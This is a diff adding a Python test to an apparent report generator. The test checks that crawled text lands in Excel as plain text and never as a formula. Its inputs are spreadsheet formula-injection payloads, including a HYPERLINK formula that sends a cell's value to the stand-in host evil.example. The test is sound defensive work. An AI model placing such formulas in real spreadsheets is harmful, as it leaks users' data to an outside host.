@@ -80,3 +80,22 @@ def test_the_web_page_is_one_escaped_self_contained_file() -> None:
     assert "data:image/png;base64," in page and not re.search(r"""(src|href)=["']?(https?:)?//""", page)
     assert "网络问政&lt;script&gt;" in page and "<script>" not in page
     assert "<h2>一、总体情况</h2>" in page and "表1　各平台信息量" in page and "64.3%" in page
+
+
+def test_excel_writes_crawled_text_as_text_never_as_a_formula() -> None:
+    hostile = ('=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")', "+86 0578-1234", "-1+1",
+               "@SUM(A1)", "\t=1+1", "\r=1+1")
+    table = Table("标题表", (Column("标题"), Column("条数", "int")), tuple((t, i) for i, t in enumerate(hostile)))
+    doc = Document(kind="event", masthead="云和县政务舆情专报", number="〔2026〕第1期", issuer="云和县政府办公室",
+                   issued=WHEN, title='=HYPERLINK("http://evil.example/","专报")', summary="=1+1",
+                   sections=(Section("一、概况", (table,)),), basis="统计口径。")
+    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(doc)))
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    ws = book["标题表"]
+    assert [ws.cell(row=r, column=1).value for r in range(2, 2 + len(hostile))] == list(hostile)
+    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(2, 2 + len(hostile)))
+    assert [ws.cell(row=r, column=2).value for r in range(2, 2 + len(hostile))] == list(range(len(hostile)))
+    cover = dict(row for row in book["概要"].iter_rows(min_row=2, values_only=True))
+    assert cover["标题"] == doc.title and cover["内容提要"] == "=1+1"
+    assert not book["概要"]["A2"].quotePrefix      # ordinary text keeps its plain style
